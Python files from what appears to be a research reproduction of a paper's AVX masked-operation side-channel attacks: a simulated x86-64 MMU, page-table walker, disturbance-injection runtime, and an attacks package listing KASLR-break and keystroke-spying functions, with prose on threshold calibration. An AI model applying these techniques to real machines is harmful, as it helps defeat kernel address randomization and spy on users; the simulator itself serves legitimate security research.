        """Unmap ``size`` bytes starting at ``va``."""
        for offset in range(0, size, page_size):
            self.page_table.unmap(va + offset)

    def protect_range(self, va, size, flags, page_size=PAGE_SIZE):
        """Re-protect ``size`` bytes starting at ``va``."""
        for offset in range(0, size, page_size):
            self.page_table.protect(va + offset, flags)

    def translate(self, va):
        """Structural translation (no timing); None if unmapped."""
        return self.page_table.lookup(va).translation
