"""Virtual-address arithmetic for 48-bit x86-64 canonical addresses.

x86-64 with 4-level paging uses 48 significant virtual-address bits; bits
63..47 must all equal bit 47 ("canonical" form).  The canonical space is
split in two halves:

* user half    : 0x0000000000000000 .. 0x00007fffffffffff
* kernel half  : 0xffff800000000000 .. 0xffffffffffffffff

A virtual address decomposes into four 9-bit page-table indices plus a
12-bit page offset::

    63..48 sign | 47..39 PML4 | 38..30 PDPT | 29..21 PD | 20..12 PT | 11..0
"""

from repro.errors import AddressError

PAGE_SHIFT = 12
PAGE_SIZE = 1 << PAGE_SHIFT          # 4 KiB
PAGE_SIZE_2M = 1 << 21               # 2 MiB huge page (PD level)
PAGE_SIZE_1G = 1 << 30               # 1 GiB huge page (PDPT level)

CANONICAL_LOW_END = 0x0000_7FFF_FFFF_FFFF
CANONICAL_HIGH_START = 0xFFFF_8000_0000_0000

_INDEX_MASK = 0x1FF
_VA_MASK = (1 << 64) - 1

#: Shift amount of each paging level's index field, top-down.
LEVEL_SHIFTS = (39, 30, 21, 12)

#: Human-readable level names, top-down, matching :data:`LEVEL_SHIFTS`.
LEVEL_NAMES = ("PML4", "PDPT", "PD", "PT")


def is_canonical(va):
    """Return True if ``va`` is a canonical 48-bit virtual address."""
    va &= _VA_MASK
    return va <= CANONICAL_LOW_END or va >= CANONICAL_HIGH_START


def is_user_address(va):
    """Return True if ``va`` lies in the lower (user) canonical half."""
    return 0 <= (va & _VA_MASK) <= CANONICAL_LOW_END


def is_kernel_address(va):
    """Return True if ``va`` lies in the upper (kernel) canonical half."""
    return (va & _VA_MASK) >= CANONICAL_HIGH_START


def check_canonical(va):
    """Raise :class:`AddressError` unless ``va`` is canonical."""
    if not is_canonical(va):
        raise AddressError("non-canonical virtual address {:#x}".format(va))
    return va & _VA_MASK


def split_indices(va):
    """Return the (pml4, pdpt, pd, pt) index tuple of ``va``."""
    va = check_canonical(va)
    return tuple((va >> shift) & _INDEX_MASK for shift in LEVEL_SHIFTS)


def page_offset(va, page_size=PAGE_SIZE):
    """Return the offset of ``va`` within its enclosing page."""
    return va & (page_size - 1)


def page_align_down(va, page_size=PAGE_SIZE):
    """Round ``va`` down to a ``page_size`` boundary."""
    return va & ~(page_size - 1)


def page_align_up(va, page_size=PAGE_SIZE):
    """Round ``va`` up to a ``page_size`` boundary."""
    return (va + page_size - 1) & ~(page_size - 1)


def is_aligned(va, page_size=PAGE_SIZE):
    """Return True if ``va`` is a multiple of ``page_size``."""
    return (va & (page_size - 1)) == 0


def vpn_of(va, page_size=PAGE_SIZE):
    """Return the virtual page number of ``va`` for the given page size."""
    return check_canonical(va) // page_size


def pages_in_range(start, end, page_size=PAGE_SIZE):
    """Yield the page-aligned base addresses covering [start, end)."""
    if end < start:
        raise AddressError(
            "range end {:#x} precedes start {:#x}".format(end, start)
        )
    va = page_align_down(start, page_size)
    while va < end:
        yield va
        va += page_size
