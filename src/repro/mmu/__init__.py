"""Memory-management substrate: page tables, TLBs, paging-structure caches.

This package models exactly the x86-64 state that the paper's side channel
leaks: the 4-level paging hierarchy (PML4 -> PDPT -> PD -> PT), Intel-style
paging-structure caches, and a two-level set-associative TLB, together with
a cycle-accounting page-table walker.
"""

from repro.mmu.address import (
    CANONICAL_HIGH_START,
    CANONICAL_LOW_END,
    PAGE_SHIFT,
    PAGE_SIZE,
    PAGE_SIZE_1G,
    PAGE_SIZE_2M,
    is_canonical,
    is_kernel_address,
    is_user_address,
    page_align_down,
    page_align_up,
    split_indices,
    vpn_of,
)
from repro.mmu.flags import PageFlags
from repro.mmu.frames import FrameAllocator, PhysicalMemory
from repro.mmu.pagetable import AddressSpace, PageTable, Translation
from repro.mmu.psc import PagingStructureCache
from repro.mmu.tlb import TLB, TLBEntry, TwoLevelTLB
from repro.mmu.walker import PageTableWalker, WalkResult

__all__ = [
    "CANONICAL_HIGH_START",
    "CANONICAL_LOW_END",
    "PAGE_SHIFT",
    "PAGE_SIZE",
    "PAGE_SIZE_1G",
    "PAGE_SIZE_2M",
    "AddressSpace",
    "FrameAllocator",
    "PageFlags",
    "PageTable",
    "PageTableWalker",
    "PagingStructureCache",
    "PhysicalMemory",
    "TLB",
    "TLBEntry",
    "Translation",
    "TwoLevelTLB",
    "WalkResult",
    "is_canonical",
    "is_kernel_address",
    "is_user_address",
    "page_align_down",
    "page_align_up",
    "split_indices",
    "vpn_of",
]
