"""Cycle-accounting page-table walker.

The walker charges a fixed TLB-miss overhead plus one paging-structure
memory access per level actually visited.  Two state machines shorten or
lengthen the walk, and both are observable through the paper's timing
channel:

* the :class:`~repro.mmu.psc.PagingStructureCache` lets the walk resume
  below the PML4 (P3: "execution time increases with the number of levels
  the walk must fetch");
* the :class:`~repro.mmu.psc.PagingLineCache` decides whether each fetched
  entry is hot (data cache) or cold (DRAM) -- the difference between the
  147-cycle warm and 381-cycle cold kernel accesses in the paper's P4
  experiment.

Invariants the columnar engine (``repro.cpu.columnar``) compiles against:

* a walk's cycle cost is a pure function of ``(terminal level, start
  level, per-level line hotness)``:
  ``base + level_step * (terminal+1) + sum(access_hot|access_cold)``.
  No hidden state enters the formula, so once the engine knows which
  lines a row touches and whether they are hot, the cost is closed-form;
* the walker owns ``completed_walks`` and is the single incrementer of
  the two ``DTLB_LOAD_MISSES.*`` counters; ``WALK_DURATION`` is charged
  in *pre-DVFS* cycles (the clock's scale is applied later by the
  core), which the columnar accounting mirrors;
* PSC fills happen only for directory levels ``start..terminal-1`` of
  a present walk, after the line accesses -- the fill order within one
  walk is level-ascending, which bucket replay depends on.
"""

from repro.mmu.address import split_indices
from repro.mmu.psc import PagingLineCache, PagingStructureCache
from repro.obs.metrics import DEPTH_BUCKETS


class WalkTiming:
    """Cost parameters of one walk (provided by the CPU model).

    ``level_step`` is charged once per paging level of the walk's
    termination depth (PML4-terminated walk = 1, PT = 4), modelling the
    serial per-level latency of the walk state machine.  It is what makes
    a depth-4 (4 KiB) translation measurably slower than a depth-3 huge
    page even with every paging-structure line hot -- the signal behind
    the paper's P3 and the AMD KASLR break.
    """

    __slots__ = ("base", "access_hot", "access_cold", "level_step")

    def __init__(self, base=10, access_hot=8, access_cold=56, level_step=2):
        self.base = base
        self.access_hot = access_hot
        self.access_cold = access_cold
        self.level_step = level_step


class WalkResult:
    """Outcome of one timed page-table walk."""

    __slots__ = (
        "translation",
        "terminal_level",
        "cycles",
        "accesses",
        "cold_accesses",
        "start_level",
    )

    def __init__(
        self,
        translation,
        terminal_level,
        cycles,
        accesses,
        cold_accesses,
        start_level,
    ):
        self.translation = translation
        self.terminal_level = terminal_level
        self.cycles = cycles
        self.accesses = accesses
        self.cold_accesses = cold_accesses
        self.start_level = start_level

    @property
    def present(self):
        return self.translation is not None


class PageTableWalker:
    """Walks a page table, charging cycles and updating PSC/line caches.

    ``perf`` (optional) is the owning core's performance-counter block;
    when present the walker is the *single* place that counts completed
    walks and walk cycles, so ``DTLB_LOAD_MISSES.WALK_COMPLETED`` can
    never drift from :attr:`completed_walks` no matter which execution
    path (AVX unit, kernel touches, prefetch/TSX baselines) triggered the
    walk.

    Owned state: ``psc`` and ``line_cache`` (the only mutable walk
    caches), the monotonic ``completed_walks`` counter, and the ``obs``
    binding.  ``timing`` and ``use_psc`` are configuration, fixed for
    the machine's lifetime -- the columnar engine snapshots them once
    per sweep and treats ``use_psc=False`` as a delegation reason.
    """

    def __init__(self, timing=None, psc=None, line_cache=None, use_psc=True,
                 perf=None):
        self.timing = timing if timing is not None else WalkTiming()
        self.psc = psc if psc is not None else PagingStructureCache()
        self.line_cache = (
            line_cache if line_cache is not None else PagingLineCache()
        )
        self.use_psc = use_psc
        self.perf = perf
        self.completed_walks = 0
        #: observability sink; rebound by Tracer.attach().  Kept None (not
        #: the null tracer) so un-attached walkers skip even the guard's
        #: attribute chase.
        self.obs = None

    def walk(self, page_table, va, fill_psc=True, lookup=None):
        """Perform one timed walk of ``va`` through ``page_table``.

        ``lookup`` may carry a pre-resolved structural
        :class:`~repro.mmu.pagetable.Lookup` of the same VA (e.g. from the
        page table's memoizing cache) so the walk skips the radix
        traversal; timing and cache effects are charged identically.
        """
        if lookup is None:
            lookup = page_table.lookup(va)
        indices = (
            lookup.indices if lookup.indices is not None
            else split_indices(va)
        )
        terminal = lookup.terminal_level

        start_level = 0
        if self.use_psc:
            hit = self.psc.deepest_hit(indices)
            if hit is not None:
                start_level = min(hit + 1, terminal)

        cycles = self.timing.base + self.timing.level_step * (terminal + 1)
        accesses = 0
        cold = 0
        for level, node_id in lookup.nodes[start_level:]:
            hot = self.line_cache.access(node_id, indices[level])
            cycles += self.timing.access_hot if hot else self.timing.access_cold
            accesses += 1
            if not hot:
                cold += 1

        if self.use_psc and fill_psc:
            # Cache the present non-terminal entries the walk just read.
            # lookup.nodes[i + 1] is the child structure that the entry at
            # level i points to; only such directory entries are cacheable.
            for position in range(start_level, terminal):
                level, __ = lookup.nodes[position]
                child_id = lookup.nodes[position + 1][1]
                self.psc.fill(indices, level, child_id)

        self.completed_walks += 1
        if self.perf is not None:
            self.perf.increment("DTLB_LOAD_MISSES.WALK_COMPLETED")
            self.perf.increment("DTLB_LOAD_MISSES.WALK_DURATION", cycles)
        if self.obs is not None and self.obs.enabled:
            metrics = self.obs.metrics
            metrics.inc("walker.walks")
            metrics.inc("walker.accesses", accesses)
            metrics.inc("walker.cold_accesses", cold)
            metrics.observe("walker.depth", terminal + 1,
                            buckets=DEPTH_BUCKETS)
            metrics.observe("walker.cycles", cycles)
            if self.use_psc:
                metrics.inc("walker.psc_lookups")
                if start_level > 0:
                    metrics.inc("walker.psc_hits")
        return WalkResult(
            translation=lookup.translation,
            terminal_level=terminal,
            cycles=cycles,
            accesses=accesses,
            cold_accesses=cold,
            start_level=start_level,
        )

    def invalidate_address(self, va):
        """INVLPG side effects on the walker's caches."""
        self.psc.invalidate_address(split_indices(va))

    def flush(self):
        """Full flush of PSC and paging-line cache (CR3 write, WBINVD...)."""
        self.psc.flush()
        self.line_cache.flush()
