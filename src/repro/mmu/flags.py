"""Page-table entry flags with x86-64 semantics.

Only the architecturally relevant subset is modelled: the bits that the
paper's side channel depends on are Present (P), Read/Write (RW),
User/Supervisor (US), Dirty (D), Accessed (A), Page Size (PS) and
Execute-Disable (NX).
"""

import enum


class PageFlags(enum.IntFlag):
    """PTE flag bits (numeric values follow the Intel SDM layout)."""

    NONE = 0
    PRESENT = 1 << 0       # P  : translation is valid
    WRITABLE = 1 << 1      # RW : writes permitted
    USER = 1 << 2          # US : accessible from CPL 3
    ACCESSED = 1 << 5      # A  : set by hardware on first access
    DIRTY = 1 << 6         # D  : set by hardware on first write
    HUGE = 1 << 7          # PS : terminal entry at PD/PDPT level
    GLOBAL = 1 << 8        # G  : survives CR3 switches
    NX = 1 << 63           # XD : instruction fetches disallowed

    @property
    def present(self):
        return bool(self & PageFlags.PRESENT)

    @property
    def writable(self):
        return bool(self & PageFlags.WRITABLE)

    @property
    def user(self):
        return bool(self & PageFlags.USER)

    @property
    def dirty(self):
        return bool(self & PageFlags.DIRTY)

    @property
    def accessed(self):
        return bool(self & PageFlags.ACCESSED)

    @property
    def huge(self):
        return bool(self & PageFlags.HUGE)

    @property
    def executable(self):
        return not bool(self & PageFlags.NX)

    def describe(self):
        """Return a /proc/PID/maps style ``rwx`` permission string."""
        if not self.present:
            return "---"
        read = "r"
        write = "w" if self.writable else "-"
        execute = "x" if self.executable else "-"
        return read + write + execute


#: Convenience combinations used throughout the OS layer.
KERNEL_RX = PageFlags.PRESENT
KERNEL_RW = PageFlags.PRESENT | PageFlags.WRITABLE | PageFlags.NX
USER_RX = PageFlags.PRESENT | PageFlags.USER
USER_RO = PageFlags.PRESENT | PageFlags.USER | PageFlags.NX
USER_RW = (
    PageFlags.PRESENT | PageFlags.USER | PageFlags.WRITABLE | PageFlags.NX
)


def flags_from_prot(read=True, write=False, execute=False, user=True):
    """Build :class:`PageFlags` from mmap-style protection booleans.

    ``read=False`` with no other permission models a PROT_NONE mapping:
    the page is tracked by the OS but its PTE is non-present, exactly how
    Linux implements PROT_NONE.
    """
    if not (read or write or execute):
        return PageFlags.NONE
    flags = PageFlags.PRESENT
    if write:
        flags |= PageFlags.WRITABLE
    if not execute:
        flags |= PageFlags.NX
    if user:
        flags |= PageFlags.USER
    return flags
