"""Disturbance-injection runtime: a hostile, reproducible environment.

Real machines fight back: the scheduler migrates the attacker between
cores, DVFS steps the frequency mid-sweep, SMIs and interrupt storms
spike individual measurements, co-resident neighbours thrash the TLB,
and hardened kernels coarsen timers or re-randomize their layout while
the scan is still running.  This package injects exactly those faults
*during* a simulated attack -- from a seeded, deterministic event
schedule -- so adaptive attack logic can be tested against them instead
of against a lab-quiet machine.

Entry points:

* :class:`~repro.chaos.profiles.ChaosProfile` / ``get_chaos_profile`` --
  declarative description of which disturbances fire and how often;
* :class:`~repro.chaos.runtime.ChaosRuntime` -- the event scheduler a
  :class:`~repro.machine.Machine` attaches to its core;
* :class:`~repro.chaos.events.DisturbanceEvent` -- one log record.
"""

from repro.chaos.events import EVENT_KINDS, DisturbanceEvent
from repro.chaos.profiles import (
    CHAOS_PROFILES,
    ChaosProfile,
    get_chaos_profile,
)
from repro.chaos.runtime import ChaosRuntime

__all__ = [
    "CHAOS_PROFILES",
    "ChaosProfile",
    "ChaosRuntime",
    "DisturbanceEvent",
    "EVENT_KINDS",
    "get_chaos_profile",
]
