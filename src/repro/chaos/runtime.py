"""The disturbance scheduler: seeded chaos injected at probe boundaries.

A :class:`ChaosRuntime` is attached to a machine's core.  Each enabled
event kind is a Poisson process over *simulated* cycles: the runtime
keeps one next-arrival deadline per kind and, whenever the core polls it
(at probe boundaries -- see ``Core.chaos_poll``), fires every deadline
the simulated clock has passed, in deadline order.

Two invariants make runs bit-reproducible and mode-agnostic:

* the runtime owns a **dedicated RNG** (the machine's 4th spawned seed).
  The core's measurement-noise RNG is consumed in different orders by
  the per-op and batched paths, so chaos decisions must never touch it;
* all RNG consumption happens inside :meth:`poll`, and both probe paths
  poll at the **same simulated-clock values** (per probed VA).  Same
  seed + same profile therefore yields the same event schedule, the
  same effects, and the same disturbance log in either mode.
"""

import hashlib

import numpy as np

from repro.chaos import events
from repro.chaos.events import DisturbanceEvent
from repro.chaos.profiles import get_chaos_profile
from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M

#: fixed heap base for neighbour bursts on machines without a Process
#: (Windows); far from both the playground and user images
_FALLBACK_NEIGHBOR_BASE = 0x0000_3000_0000_0000

#: cycles a remote-shootdown IPI costs the victim core
_SHOOTDOWN_COST = 4_000
#: cycles the kernel spends moving its own image (re-randomization stall)
_RERANDOMIZE_COST = 60_000


class ChaosRuntime:
    """Deterministic mid-run fault injector for one machine."""

    def __init__(self, profile, rng=None, seed=0):
        self.profile = get_chaos_profile(profile)
        if self.profile is None:
            raise ValueError("ChaosRuntime needs a profile (got None)")
        if rng is None:
            rng = np.random.default_rng(seed)
        self.rng = rng
        self.machine = None
        self.core = None
        self.neighbor = None
        #: full history of fired events (never cleared by the runtime;
        #: the supervisor slices it per attempt)
        self.log = []
        #: bumped on every KASLR re-randomization so consumers can cheaply
        #: detect "the layout moved since I started"
        self.layout_generation = 0
        self._arrivals = {}
        self._base_sigma = None
        self._base_timer_resolution = 1
        self._active_kinds = ()

    # -- wiring ---------------------------------------------------------------

    def attach(self, machine):
        """Bind to ``machine`` and schedule the initial arrivals."""
        from repro.workloads.background import NoisyNeighbor

        self.machine = machine
        self.core = machine.core
        self.core.chaos = self
        self._base_sigma = self.core.noise.sigma
        self._base_timer_resolution = self.core.timer_resolution

        kinds = list(self.profile.active_kinds)
        if events.RERANDOMIZE in kinds and (
            machine.os_family != "linux"
            or not machine.kernel.kaslr_enabled
            or machine.kernel.flare
        ):
            # nothing to move (non-Linux, nokaslr, or FLARE-pinned slots)
            kinds.remove(events.RERANDOMIZE)
        self._active_kinds = tuple(kinds)

        if events.NEIGHBOR_BURST in self._active_kinds:
            base = None if machine.process is not None \
                else _FALLBACK_NEIGHBOR_BASE
            self.neighbor = NoisyNeighbor(
                machine,
                pressure=self.profile.neighbor_pressure,
                footprint_pages=self.profile.neighbor_footprint_pages,
                rng=self.rng,
                base=base,
            )

        now = self.core.clock.cycles
        for kind in self._active_kinds:
            self._arrivals[kind] = now + self._draw_gap(kind)
        return self

    def _draw_gap(self, kind):
        """Exponential inter-arrival gap for ``kind`` (>= 1 cycle)."""
        return int(self.rng.exponential(self.profile.periods[kind])) + 1

    @property
    def active(self):
        """True when at least one event kind is armed.

        A "quiet" profile attaches the runtime but arms nothing; probe
        paths treat it exactly like an unattached machine (bit-identical
        RNG consumption), which the determinism tests rely on.
        """
        return bool(self._arrivals)

    def next_deadline(self):
        """Earliest armed event deadline in cycles, or None when quiet.

        The columnar engine uses this to bound how many rows it may
        execute as one vectorized segment before the next ``poll()``
        could fire an event: any row whose poll boundary would reach
        this clock value must go back through the per-row path.
        """
        if not self._arrivals:
            return None
        return min(self._arrivals.values())

    # -- the poll loop --------------------------------------------------------

    def poll(self):
        """Fire every due event, in deadline order; called by the core."""
        if not self._arrivals:
            return
        clock = self.core.clock
        while True:
            kind = min(
                self._arrivals,
                key=lambda k: (self._arrivals[k], events.EVENT_KINDS.index(k)),
            )
            deadline = self._arrivals[kind]
            if deadline > clock.cycles:
                return
            applied_at = clock.cycles
            params = self._apply(kind)
            self.log.append(DisturbanceEvent(
                kind, at_cycles=deadline,
                applied_at_cycles=applied_at, params=params,
            ))
            obs = self.core.obs
            if obs.enabled:
                obs.event("chaos", kind=kind, at=deadline,
                          applied_at=applied_at, params=params)
                obs.metrics.inc("chaos.events." + kind)
            self._arrivals[kind] = clock.cycles + self._draw_gap(kind)

    # -- effects --------------------------------------------------------------

    def _apply(self, kind):
        return getattr(self, "_apply_" + kind.replace("-", "_"))()

    def _apply_migration(self):
        """Scheduler moved us: cold translation state, new noise floor."""
        core = self.core
        core.tlb.flush(keep_global=False)
        core.walker.flush()
        factors = self.profile.migration_sigma_factors
        factor = factors[int(self.rng.integers(len(factors)))]
        core.noise.sigma = self._base_sigma * factor
        core.clock.advance(self.profile.migration_cost)
        return {"sigma_factor": factor, "cost": self.profile.migration_cost}

    def _apply_dvfs(self):
        """Frequency step: all subsequent true cycle counts rescale."""
        core = self.core
        scales = self.profile.dvfs_scales
        scale = scales[int(self.rng.integers(len(scales)))]
        old = core.dvfs_scale
        core.dvfs_scale = scale
        core.clock.advance(self.profile.dvfs_stall)
        return {"scale": scale, "previous_scale": old,
                "stall": self.profile.dvfs_stall}

    def _apply_irq_storm(self):
        """Interrupt/SMI burst: big spike on the next measurement, and the
        handler's footprint displaces the L1 TLB arrays (sTLB survives)."""
        core = self.core
        core.tlb.l1[PAGE_SIZE].flush()
        core.tlb.l1[PAGE_SIZE_2M].flush()
        low = self.profile.irq_spike_cycles // 2
        spike = int(self.rng.integers(low, self.profile.irq_spike_cycles + 1))
        core.pending_spike_cycles += spike
        core.clock.advance(self.profile.irq_storm_cost)
        return {"spike": spike, "cost": self.profile.irq_storm_cost}

    def _apply_tlb_shootdown(self):
        """Remote IPI: non-global TLB entries invalidated."""
        core = self.core
        core.tlb.flush(keep_global=True)
        core.clock.advance(_SHOOTDOWN_COST)
        return {"cost": _SHOOTDOWN_COST}

    def _apply_neighbor_burst(self):
        """Co-resident burst thrashing the shared translation caches."""
        start = self.core.clock.cycles
        self.neighbor.run()
        return {"cycles": self.core.clock.cycles - start,
                "pressure": self.profile.neighbor_pressure}

    def _apply_timer_flip(self):
        """Timer defense toggling: resolution flips coarse <-> fine."""
        core = self.core
        coarse = self.profile.coarse_timer_resolution
        if core.timer_resolution == self._base_timer_resolution:
            core.timer_resolution = max(coarse, 2)
        else:
            core.timer_resolution = self._base_timer_resolution
        return {"resolution": core.timer_resolution}

    def _apply_rerandomize(self):
        """The kernel image moves; everything measured so far is stale."""
        kernel = self.machine.kernel
        old_base = kernel.base
        new_base = kernel.rerandomize()
        # the kernel flushes every core's translations after moving itself
        self.core.tlb.flush(keep_global=False)
        self.core.walker.flush()
        self.core.clock.advance(_RERANDOMIZE_COST)
        self.layout_generation += 1
        return {"old_base": old_base, "new_base": new_base,
                "cost": _RERANDOMIZE_COST}

    # -- log access -----------------------------------------------------------

    def mark(self):
        """Cursor into the log (pass to :meth:`events_since`)."""
        return len(self.log)

    def events_since(self, mark):
        """Events fired since :meth:`mark` (the supervisor's per-attempt
        slice: did anything disturb *this* attempt?)."""
        return self.log[mark:]

    def log_as_dicts(self):
        """The full disturbance log as plain dicts (JSON-ready)."""
        return [event.as_dict() for event in self.log]

    def schedule_digest(self):
        """Stable digest of the fired-event schedule.

        Two executions of a unit are equivalent exactly when the same
        event kinds fired at the same simulated-clock points with the
        same drawn parameters.  Wall time never enters the hash, so the
        digest matches across hosts, interruptions and resumes -- the
        campaign journal records it per unit, and the kill/resume
        determinism checks compare it against an uninterrupted run.
        """
        hasher = hashlib.sha256()
        for event in self.log:
            hasher.update(repr((
                event.kind,
                event.at_cycles,
                event.applied_at_cycles,
                sorted(event.params.items()),
            )).encode("utf-8"))
        return hasher.hexdigest()[:16]
