"""Disturbance event records and kind constants.

Every fault the runtime injects is logged as one
:class:`DisturbanceEvent`: what fired, the simulated cycle it was
scheduled for, the cycle at which the victim actually experienced it
(the next probe boundary), and the kind-specific parameters.  The log is
what the supervisor folds into its verdicts and what the determinism
tests compare across per-op / batched runs.
"""

#: migration to another core: TLB + PSC wiped, scheduler cost, and the
#: destination core's slightly different noise floor
MIGRATION = "migration"
#: DVFS frequency transition: every subsequent true cycle count scales
DVFS = "dvfs"
#: interrupt/SMI storm: a large one-shot spike on the next measurement
#: plus partial TLB eviction
IRQ_STORM = "irq-storm"
#: remote TLB shootdown IPI: non-global entries dropped
TLB_SHOOTDOWN = "tlb-shootdown"
#: co-resident neighbour burst: masked loads over a private heap
NEIGHBOR_BURST = "neighbor-burst"
#: timer-coarsening flip: the timer resolution toggles mid-run
TIMER_FLIP = "timer-flip"
#: mid-scan KASLR re-randomization: the kernel image moves
RERANDOMIZE = "rerandomize"

#: all kinds, in the fixed order profiles/schedulers iterate them
EVENT_KINDS = (
    MIGRATION,
    DVFS,
    IRQ_STORM,
    TLB_SHOOTDOWN,
    NEIGHBOR_BURST,
    TIMER_FLIP,
    RERANDOMIZE,
)


class DisturbanceEvent:
    """One injected fault, as recorded in the disturbance log."""

    __slots__ = ("kind", "at_cycles", "applied_at_cycles", "params")

    def __init__(self, kind, at_cycles, applied_at_cycles, params=None):
        self.kind = kind
        #: simulated cycle the event was scheduled to fire at
        self.at_cycles = at_cycles
        #: simulated cycle of the probe boundary that absorbed it
        self.applied_at_cycles = applied_at_cycles
        self.params = dict(params or {})

    def as_dict(self):
        return {
            "kind": self.kind,
            "at_cycles": self.at_cycles,
            "applied_at_cycles": self.applied_at_cycles,
            "params": dict(self.params),
        }

    def __eq__(self, other):
        if not isinstance(other, DisturbanceEvent):
            return NotImplemented
        return self.as_dict() == other.as_dict()

    def __repr__(self):
        return (
            "DisturbanceEvent(kind={!r}, at_cycles={}, applied_at_cycles={},"
            " params={!r})".format(
                self.kind, self.at_cycles, self.applied_at_cycles, self.params
            )
        )
