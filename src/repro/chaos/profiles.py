"""Named disturbance profiles: how hostile is the machine?

A :class:`ChaosProfile` declares, per event kind, whether it fires and
its mean inter-arrival time in *simulated cycles* (arrivals are drawn
from an exponential distribution -- a Poisson process -- by the
runtime), plus the kind-specific intensity parameters.  Periods are
chosen against the attacks' own time scales: the Intel KASLR break
spends ~1-2 Mcycles probing, so a 1.5 Mcycle migration period means
roughly one migration per scan.
"""

from repro.chaos import events
from repro.errors import ConfigError


class ChaosProfile:
    """Declarative disturbance configuration (immutable by convention)."""

    def __init__(
        self,
        name,
        description="",
        # Poisson mean inter-arrival per kind, in simulated cycles;
        # None disables the kind entirely.
        migration_period=None,
        dvfs_period=None,
        irq_storm_period=None,
        tlb_shootdown_period=None,
        neighbor_burst_period=None,
        timer_flip_period=None,
        rerandomize_period=None,
        # intensities
        migration_cost=12_000,
        migration_sigma_factors=(1.0, 1.15, 1.3),
        dvfs_scales=(0.8, 1.0, 1.25),
        dvfs_stall=9_000,
        irq_storm_cost=30_000,
        irq_spike_cycles=2_500,
        neighbor_pressure=24,
        neighbor_footprint_pages=1024,
        coarse_timer_resolution=32,
    ):
        self.name = name
        self.description = description
        self.periods = {
            events.MIGRATION: migration_period,
            events.DVFS: dvfs_period,
            events.IRQ_STORM: irq_storm_period,
            events.TLB_SHOOTDOWN: tlb_shootdown_period,
            events.NEIGHBOR_BURST: neighbor_burst_period,
            events.TIMER_FLIP: timer_flip_period,
            events.RERANDOMIZE: rerandomize_period,
        }
        self.migration_cost = migration_cost
        self.migration_sigma_factors = tuple(migration_sigma_factors)
        self.dvfs_scales = tuple(dvfs_scales)
        self.dvfs_stall = dvfs_stall
        self.irq_storm_cost = irq_storm_cost
        self.irq_spike_cycles = irq_spike_cycles
        self.neighbor_pressure = neighbor_pressure
        self.neighbor_footprint_pages = neighbor_footprint_pages
        self.coarse_timer_resolution = coarse_timer_resolution

    @property
    def active_kinds(self):
        """The enabled event kinds, in :data:`~repro.chaos.events.EVENT_KINDS`
        order (the order the runtime schedules and tie-breaks them in)."""
        return tuple(
            kind for kind in events.EVENT_KINDS
            if self.periods.get(kind) is not None
        )

    def __repr__(self):
        return "ChaosProfile({!r}, kinds={})".format(
            self.name, list(self.active_kinds)
        )


#: Registry of named profiles.
CHAOS_PROFILES = {
    # no disturbances at all -- the lab-quiet baseline (attaching it
    # still exercises the full chaos code path, so the determinism tests
    # can show it is a true no-op)
    "quiet": ChaosProfile(
        "quiet",
        description="chaos runtime attached, no events enabled",
    ),
    # the acceptance-criterion profile: scheduler migration + DVFS +
    # noisy neighbour, each firing roughly once per KASLR-scale scan
    "default": ChaosProfile(
        "default",
        description="migration + DVFS steps + neighbour bursts",
        migration_period=1_500_000,
        dvfs_period=900_000,
        neighbor_burst_period=350_000,
    ),
    # everything except re-randomization, at aggressive rates
    "hostile": ChaosProfile(
        "hostile",
        description="all transient disturbances, aggressive rates",
        migration_period=600_000,
        dvfs_period=400_000,
        irq_storm_period=500_000,
        tlb_shootdown_period=450_000,
        neighbor_burst_period=150_000,
        timer_flip_period=2_000_000,
        neighbor_pressure=48,
    ),
    # the worst case: the kernel image moves mid-scan (plus background
    # transients), forcing the supervisor's DisturbanceAbort + retry path
    "rerandomizing": ChaosProfile(
        "rerandomizing",
        description="mid-scan KASLR re-randomization + light transients",
        migration_period=2_500_000,
        neighbor_burst_period=600_000,
        rerandomize_period=2_000_000,
    ),
}


def get_chaos_profile(profile):
    """Resolve a profile name (or pass a ChaosProfile through)."""
    if profile is None:
        return None
    if isinstance(profile, ChaosProfile):
        return profile
    try:
        return CHAOS_PROFILES[profile]
    except KeyError:
        raise ConfigError(
            "unknown chaos profile {!r}; known: {}".format(
                profile, ", ".join(sorted(CHAOS_PROFILES))
            )
        )
