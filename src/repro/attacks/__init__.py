"""The paper's attacks, built solely on unprivileged AVX masked ops."""

from repro.attacks.baselines import (
    break_kaslr_prefetch,
    break_kaslr_tsx,
    compare_with_baselines,
)
from repro.attacks.behavior import BehaviorSpy, detection_metrics
from repro.attacks.calibrate import ThresholdCalibration, calibrate_store_threshold
from repro.attacks.eviction import EvictionSet, TLBEvictionBuffer
from repro.attacks.fingerprint import ApplicationFingerprinter
from repro.attacks.keystrokes import KeystrokeSpy, KeystrokeTrace
from repro.attacks.kaslr_break import (
    KaslrBreakResult,
    break_kaslr,
    break_kaslr_amd,
    break_kaslr_intel,
)
from repro.attacks.kpti_break import break_kaslr_kpti
from repro.attacks.module_detect import ModuleDetectionResult, detect_modules
from repro.attacks.primitives import (
    PageTableAttack,
    PermissionAttack,
    TLBAttack,
    double_probe_load,
    double_probe_store,
)

__all__ = [
    "ApplicationFingerprinter",
    "break_kaslr_prefetch",
    "break_kaslr_tsx",
    "compare_with_baselines",
    "BehaviorSpy",
    "EvictionSet",
    "KeystrokeSpy",
    "KeystrokeTrace",
    "TLBEvictionBuffer",
    "detection_metrics",
    "KaslrBreakResult",
    "ModuleDetectionResult",
    "PageTableAttack",
    "PermissionAttack",
    "TLBAttack",
    "ThresholdCalibration",
    "break_kaslr",
    "break_kaslr_amd",
    "break_kaslr_intel",
    "break_kaslr_kpti",
    "calibrate_store_threshold",
    "detect_modules",
    "double_probe_load",
    "double_probe_store",
]
