"""Threshold calibration (paper Section IV-B).

The attack needs a decision boundary between "mapped" and "unmapped"
probe timings without ever having seen a kernel page.  The paper's
observation: *the masked store on a user-mapped page whose dirty bit is
clear costs the same as the masked load on a kernel-mapped page* (both
take one microcode assist plus a TLB hit).  So the attacker measures that
store on its own freshly mmap'd page and derives the threshold from the
resulting distribution.
"""

import math


class ThresholdCalibration:
    """Result of the self-calibration step."""

    __slots__ = ("mean", "std", "threshold", "samples")

    def __init__(self, mean, std, threshold, samples):
        self.mean = mean
        self.std = std
        self.threshold = threshold
        self.samples = samples

    def classify_mapped(self, measured):
        """True if a (second-access) probe timing indicates a mapped page."""
        return measured <= self.threshold

    def __repr__(self):
        return "ThresholdCalibration(mean={:.1f}, thr={:.1f})".format(
            self.mean, self.threshold
        )


def robust_stats(values):
    """Median and a spike-resistant std estimate (trimmed)."""
    ordered = sorted(values)
    n = len(ordered)
